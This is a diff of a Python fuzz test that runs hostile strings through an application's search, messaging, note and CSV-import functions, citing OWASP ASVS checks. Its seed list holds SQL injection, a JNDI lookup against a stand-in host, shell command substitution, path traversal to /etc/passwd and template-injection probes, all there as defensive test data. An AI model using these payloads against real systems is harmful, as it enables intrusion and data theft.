@@ -1,6 +1,6 @@
 """A thousand hostile texts through each function that stores or looks for what people type.
 
-OWASP ASVS 5.0: V1.2.4 (parameterised queries), V1.1 (encoding once), V2.2.1 (validation), V16.5.1 (no inside in errors).
+OWASP ASVS 5.0: V1.2.4 (parameterised queries), V1.1 (encoding once), V2.2.1 (validation), V16.5.1 (errors).
 Each is kept as it stands (without what cannot be kept), or refused with a sentence; nothing else in the database moves.
 """
 
@@ -33,12 +33,14 @@ from tests.trust.two_agencies import definition
 
 SEEDS = (
     "\0", "a\0b", "\ud800", "a\udfffb", "\u202eabc", "\ufeff", "\u200b" * 50, "\r\n\r\n", "\t", "\x1b[31mrouge\x1b[0m",
-    "\x7f\x80\x9f", "'", '"', "';--", "' OR '1'='1", "'; DROP TABLE candidate; --", "$1", "$$;$$", "%s", "%(a)s", "%n%n%n",
-    "{}", "{0.__class__}", "{{7*7}}", "((prénom))", "((", "${jndi:ldap://attaque.example/a}", "`id`", "$(id)", "| ls", "&& ls",
-    "../../etc/passwd", "\\\\attaque.example\\x", "null", "None", "NaN", "Infinity", "-1", "1e999", "0x10", "true", "[]",
+    "\x7f\x80\x9f", "'", '"', "';--", "' OR '1'='1", "'; DROP TABLE candidate; --", "$1", "$$;$$", "%s", "%(a)s",
+    "%n%n%n", "{}", "{0.__class__}", "{{7*7}}", "((prénom))", "((", "${jndi:ldap://attaque.example/a}", "`id`", "$(id)", "| ls",
+    "&& ls", "../../etc/passwd", "\\\\attaque.example\\x", "null", "None", "NaN", "Infinity", "-1", "1e999", "0x10", "true",
+    "[]",
     "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466", "\U0001f1eb\U0001f1f7" * 50, "e" + "\u0301" * 300,
     "ﷺ" * 50, "İıſK", "𝒽𝓉𝓉𝓅", "мир", "你好", "مرحبا", "x" * 3_000, "é" * 10_000, " " * 2_000, "\n" * 500,
-    "+++\nname = 'x'\n+++", '{"a":' * 200, "<!--", "]]>", "<![CDATA[", "\\", "\\u0000", "%00", "%", "_", "%_%", "*", "(" * 500,
+    "+++\nname = 'x'\n+++", '{"a":' * 200, "<!--", "]]>", "<![CDATA[", "\\", "\\u0000", "%00", "%", "_", "%_%", "*",
+    "(" * 500,
 )  # fmt: skip
 TEXTS = tuple(itertools.islice(
     itertools.chain(
@@ -66,7 +68,8 @@ def _reply(town: Town, _: Person, text: str) -> object:
 
 def _people(town: Town, _: Person, text: str) -> object:
     cell = text.replace('"', '""')
-    file = f'Identifiant;Prénom;Nom;Téléphone;Métier;"{cell[:200]}"\n"{cell}";"{cell}";"{cell}";"{cell}";"{cell}";"{cell}"\n'
+    row = ";".join([f'"{cell}"'] * 6)
+    file = f'Identifiant;Prénom;Nom;Téléphone;Métier;"{cell[:200]}"\n{row}\n'
     data = file.encode("utf-8", "surrogatepass")
     table = people_file.open_table("gens.csv", data)
     mapping = people_file.guess_mapping(table.columns)
@@ -101,7 +104,7 @@ INPUTS: dict[str, tuple[Put, set[str]]] = {
     "a search of chats": (lambda town, person, text: chats.chats(town.database, person, text), set()),
     "a search of people": (lambda town, person, text: choices.search(town.database, person, text), set()),
     "a note": (_thread(lambda d, p, c, text, town: takeover.note(d, p, c, text, town.now)), {"thread_event"}),
-    "an SMS by hand": (_thread(lambda d, p, c, text, town: takeover.write(d, p, c, text, town.now)),
+    "an SMS by hand": (_thread(lambda d, p, c, text, town: takeover.write_by_hand(d, p, c, text, None, town.now)),
                        {"message", "conversation", "thread_event"}),
     "a verdict": (_thread(lambda d, p, c, text, town: threads.decide(d, p, c, Verdict.TO_SEE, text, town.now)),
                   {"conversation", "decision_time"}),
